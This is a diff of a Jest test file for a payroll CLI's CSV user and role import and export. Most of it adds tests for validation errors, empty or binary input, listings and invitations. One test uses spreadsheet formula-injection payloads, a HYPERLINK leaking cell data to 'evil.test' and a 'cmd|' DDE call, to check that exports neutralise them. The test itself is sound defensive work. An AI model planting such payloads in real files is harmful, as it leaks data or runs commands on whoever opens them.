@@ -48,6 +48,49 @@ describe('paybench users and roles', () => {
     expect(listed()).toEqual([]);
   });
 
+  it('prints the refusal as JSON with every problem under --json, still exit 2', () => {
+    const bad = file('bad-json.csv', ['email,firstName,lastName,roles', `not-an-email,,Person,employee`, `x@${domain},X,Y,astronaut`].join('\n'));
+    const run = paybench(['users', 'import', bad, '--json'], env);
+    expect(run.code).toBe(2);
+    expect(JSON.parse(run.stdout)).toEqual({
+      error: {
+        code: 'rejected',
+        message: 'The users file has 3 problems; nothing was written.',
+        problems: [
+          { line: 2, field: 'email', message: '"not-an-email" is not an e-mail address' },
+          { line: 2, field: 'firstName', message: 'is required' },
+          { line: 3, field: 'roles', message: '"astronaut" is not a role of this company' },
+        ],
+      },
+    });
+    expect(run.stderr).toContain('line 3: roles: "astronaut" is not a role of this company');
+    expect(listed()).toEqual([]);
+  });
+
+  it('refuses an empty, a header-only and a binary file with exit 2 instead of importing nothing', () => {
+    const empty = paybench(['users', 'import', file('empty.csv', '')], env);
+    expect(empty.code).toBe(2);
+    expect(empty.stdout).toBe('');
+    expect(empty.stderr).toBe(`Error: ${path.join(dir, 'empty.csv')} is empty: it needs a header row (email,firstName,lastName) and at least one row; nothing was written.\n`);
+    const blank = paybench(['users', 'import', '-', '--json'], env, '\n\n');
+    expect(blank.code).toBe(2);
+    expect(JSON.parse(blank.stdout)).toEqual({
+      error: { code: 'rejected', message: 'The input is empty: it needs a header row (email,firstName,lastName) and at least one row; nothing was written.' },
+    });
+    const header = paybench(['users', 'import', file('header.csv', 'email,firstName,lastName,roles\n')], env);
+    expect(header.code).toBe(2);
+    expect(header.stderr).toBe(`Error: ${path.join(dir, 'header.csv')} has a header row but no rows; nothing was written.\n`);
+    // The first bytes of an XLSX (a zip archive): not text at all.
+    const binary = path.join(dir, 'people.xlsx');
+    writeFileSync(binary, Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00, 0x21, 0x00, 0x62, 0xee, 0x9d, 0x68]));
+    const run = paybench(['users', 'import', binary], env);
+    expect(run.code).toBe(2);
+    expect(run.stdout).toBe('');
+    expect(run.stderr).toBe(`Error: ${binary} is not a CSV file: it holds binary data, not UTF-8 text. Save it as CSV (UTF-8) and try again; nothing was written.\n`);
+    expect(run.stderr).not.toContain('created');
+    expect(listed()).toEqual([]);
+  });
+
   it('names the line of a row the contract itself refuses, and reads the file from stdin with -', () => {
     const long = `${'x'.repeat(330)}@${domain}`;
     const run = paybench(['users', 'import', '-', '--dry-run'], env, `email,firstName,lastName\nfine@${domain},A,B\n\n${long},C,D\n`);
@@ -82,7 +125,7 @@ describe('paybench users and roles', () => {
     const exported = paybench(['users', 'export'], env);
     expect(exported.code).toBe(0);
     expect(exported.stderr).toBe('');
-    const rows = parse(exported.stdout, { columns: true }) as Record<string, string>[];
+    const rows = parse(exported.stdout, { columns: true, bom: true }) as Record<string, string>[];
     const ours = rows.filter((row) => row.email?.endsWith(`@${domain}`)).map((row) => ({ email: row.email, firstName: row.firstName, lastName: row.lastName, roles: row.roles, manager: row.manager }));
     expect(ours).toEqual(people);
     expect(rows).toHaveLength(people.length + 5);
@@ -95,8 +138,32 @@ describe('paybench users and roles', () => {
     expect(paybench(['users', 'import', moved], env).stdout).toBe('0 created, 1 updated, 0 unchanged\n');
     const names = file('names.csv', `email,firstName,lastName,roles\ncy@${domain},Cy,Dé,\n`);
     expect(paybench(['users', 'import', names], env).stdout).toBe('0 created, 0 updated, 1 unchanged\n');
-    const after = parse(paybench(['users', 'export'], env).stdout, { columns: true }) as Record<string, string>[];
+    const after = parse(paybench(['users', 'export'], env).stdout, { columns: true, bom: true }) as Record<string, string>[];
     expect(after.find((row) => row.email === `cy@${domain}`)?.manager).toBe(`bo@${domain}`);
+  });
+
+  it('lists users with their manager, as a table and as JSON', () => {
+    const table = paybench(['users', 'list', '--search', domain], env);
+    expect(table.code).toBe(0);
+    expect(table.stderr).toBe('');
+    const lines = table.stdout.split('\n');
+    const escaped = domain.replace(/[.]/g, '\\.');
+    expect(lines).toEqual([
+      expect.stringMatching(/^EMAIL\s+NAME\s+ROLES\s+MANAGER\s+STATUS$/),
+      expect.stringMatching(new RegExp(`^ana@${escaped}\\s+Ana Lima\\s+compensation_planner;employee\\s+active$`)),
+      expect.stringMatching(new RegExp(`^bo@${escaped}\\s+Bo Quoted, Jr\\.\\s+employee\\s+ana@${escaped}\\s+active$`)),
+      expect.stringMatching(new RegExp(`^cy@${escaped}\\s+Cy Dé\\s+bo@${escaped}\\s+active$`)),
+      '',
+    ]);
+    // The manager sits under its heading.
+    expect(lines[2]?.indexOf(`ana@${domain}`)).toBe(lines[0]?.indexOf('MANAGER'));
+    expect(lines[3]?.indexOf(`bo@${domain}`)).toBe(lines[0]?.indexOf('MANAGER'));
+    const users = listed() as (ListedUser & { manager: string | null })[];
+    expect(users.map((user) => [user.email, user.manager])).toEqual([
+      [`ana@${domain}`, null],
+      [`bo@${domain}`, `ana@${domain}`],
+      [`cy@${domain}`, `bo@${domain}`],
+    ]);
   });
 
   it('assigns a role and lists users as JSON that parses', () => {
@@ -122,8 +189,26 @@ describe('paybench users and roles', () => {
     expect(refused.stderr).toContain("line 2: permissions: employee is a built-in role; its permissions cannot be changed");
     expect(refused.stderr).toContain('line 3: key: must be lower-case letters');
     expect(refused.stderr).toContain('line 3: name: is required');
+    // A cell that is not JSON is one problem among the others, not the only one reported.
+    const mixed = file('mixed.csv', 'key,name,permissions\nok_role,Fine,{}\nbroken,Broken,{not json\nBad Key,,{}\nemployee,Employee,"{""bands"":[{""authority"":""edit"",""scope"":""all""}]}"\n');
+    const every = paybench(['roles', 'import', mixed], env);
+    expect(every.code).toBe(2);
+    expect(every.stdout).toBe('');
+    expect(every.stderr).toBe(
+      [
+        'Error: The roles file has 4 problems; nothing was written.',
+        'line 3: permissions: is not a JSON object of permission grants',
+        'line 4: key: must be lower-case letters, digits and _, starting with a letter',
+        'line 4: name: is required',
+        'line 5: permissions: employee is a built-in role; its permissions cannot be changed',
+        '',
+      ].join('\n'),
+    );
+    const asJson = JSON.parse(paybench(['roles', 'import', mixed, '--json'], env).stdout) as { error: { problems: { line: number; field: string }[] } };
+    expect(asJson.error.problems.map((problem) => `${problem.line} ${problem.field}`)).toEqual(['3 permissions', '4 key', '4 name', '5 permissions']);
     const list = JSON.parse(paybench(['roles', 'list', '--json'], env).stdout) as { key: string }[];
     expect(list.map((role) => role.key)).toContain('recruiter');
+    expect(list.map((role) => role.key)).not.toContain('ok_role');
   });
 
   it('creates, lists and revokes API tokens, and lists jobs', () => {
@@ -149,14 +234,14 @@ describe('paybench users and roles', () => {
     const job = jobs.find((candidate) => candidate.type === 'usersExport');
     expect(job?.status).toBe('succeeded');
     const download = paybench(['downloads', 'get', job?.downloadId ?? ''], env);
-    expect(download.stdout.split('\n')[0]).toBe('email,firstName,lastName,roles,manager,status');
+    expect(download.stdout.replace(/^\uFEFF/, '').split('\n')[0]).toBe('email,firstName,lastName,roles,manager,status');
   });
 
   it('exports names that look like formulas as text, and takes its own exports back unchanged', () => {
     const people = file('formulas.csv', `email,firstName,lastName,roles\nformula@${domain},"=HYPERLINK(""http://evil.test/?leak=""&Q2)",+SUM(1+1),employee\n`);
     expect(paybench(['users', 'import', people], env).stdout).toBe('1 created, 0 updated, 0 unchanged\n');
     const users = paybench(['users', 'export'], env).stdout;
-    expect((parse(users, { columns: true }) as Record<string, string>[]).find((row) => row.email === `formula@${domain}`)).toMatchObject({
+    expect((parse(users, { columns: true, bom: true }) as Record<string, string>[]).find((row) => row.email === `formula@${domain}`)).toMatchObject({
       firstName: `'=HYPERLINK("http://evil.test/?leak="&Q2)`,
       lastName: "'+SUM(1+1)",
     });
@@ -165,11 +250,26 @@ describe('paybench users and roles', () => {
     const roles = file('formula-roles.csv', `key,name,description,permissions\nformulas,-2+3+cmd|' /C calc'!A0,"@SUM(1,2)",{}\n`);
     expect(paybench(['roles', 'import', roles], env).stdout).toBe('1 created, 0 updated, 0 unchanged\n');
     const exported = paybench(['roles', 'export'], env).stdout;
-    expect((parse(exported, { columns: true }) as Record<string, string>[]).find((row) => row.key === 'formulas')).toMatchObject({
+    expect((parse(exported, { columns: true, bom: true }) as Record<string, string>[]).find((row) => row.key === 'formulas')).toMatchObject({
       name: "'-2+3+cmd|' /C calc'!A0",
       description: "'@SUM(1,2)",
     });
     expect(paybench(['roles', 'import', file('formula-roles-export.csv', exported)], env).stdout).toMatch(/^0 created, 0 updated, \d+ unchanged\n$/);
+  });
+
+  it('asks the server to invite the people a file creates with --invite, and only then', () => {
+    const invitees = file('invitees.csv', `email,firstName,lastName,roles\ninv1@${domain},Ina,One,employee\ninv2@${domain},Ivo,Two,employee\n`);
+    expect(paybench(['users', 'import', invitees, '--dry-run'], env).stdout).toBe('2 to create, 0 to update, 0 unchanged\n');
+    const planned = paybench(['users', 'import', invitees, '--dry-run', '--invite'], env);
+    expect(planned.code).toBe(0);
+    expect(planned.stdout).toBe('2 to create, 0 to update, 0 unchanged; 2 to invite\n');
+    const plan = JSON.parse(paybench(['users', 'import', invitees, '--dry-run', '--invite', '--json'], env).stdout) as { invited?: number; dryRun: boolean };
+    expect(plan).toMatchObject({ dryRun: true, invited: 2 });
+    const sent = paybench(['users', 'import', invitees, '--invite'], env);
+    expect(sent.code).toBe(0);
+    expect(sent.stdout).toBe('2 created, 0 updated, 0 unchanged; 2 invited\n');
+    // Both now hold an open invitation: a second run invites nobody.
+    expect(paybench(['users', 'import', invitees, '--invite'], env).stdout).toBe('0 created, 0 updated, 2 unchanged; 0 invited\n');
   });
 
   it('prints shell completion for bash and zsh', () => {
